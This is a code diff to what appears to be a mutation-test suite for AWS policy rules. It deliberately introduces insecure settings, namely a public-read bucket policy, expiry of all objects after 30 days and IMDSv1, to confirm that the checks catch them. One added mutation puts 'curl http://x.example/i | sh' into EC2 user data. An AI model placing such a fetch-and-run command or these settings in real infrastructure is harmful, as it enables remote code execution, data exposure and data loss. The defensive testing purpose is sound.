@@ -19,6 +19,10 @@ def _many_machines(group: Inputs) -> bool | None:
     return None
 
 
+def _expire(lifecycle: Inputs) -> None:
+    lifecycle["rules"].append({"id": "tidy", "status": "Enabled", "filter": {"prefix": ""}, "expiration": {"days": 30}})
+
+
 def _public(bucket: Inputs) -> None:
     policy = json.loads(bucket["policy"])
     policy["Statement"].append({"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "*"})
@@ -39,6 +43,7 @@ AWS: dict[str, tuple[Mutation, ...]] = {
         for name in ("blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets")
     ),
     "BucketVersioning": (Mutation("no versions", ("s3-require-versioning",), put("Suspended", "versioningConfiguration", "status")),),
+    "BucketLifecycleConfiguration": (Mutation("weights expire", ("s3-disallow-expiring-weights",), _expire),),
     "BucketPolicy": (
         Mutation("public bucket", ("s3-disallow-public-policy",), _public),
         Mutation("clear text", ("s3-require-tls",), put('{"Statement": []}', "policy")),
@@ -80,6 +85,9 @@ AWS: dict[str, tuple[Mutation, ...]] = {
     ),
     "LaunchTemplate": (
         Mutation("IMDSv1", ("ec2-require-imdsv2",), put("optional", "metadataOptions", "httpTokens")),
+        Mutation(
+            "a program from the network", ("ec2-disallow-piped-programs",), put("#!/bin/sh\ncurl http://x.example/i | sh", "userData")
+        ),
         Mutation("two hops", ("ec2-require-imdsv2",), put(2, "metadataOptions", "httpPutResponseHopLimit")),
         Mutation(
             "clear disks",
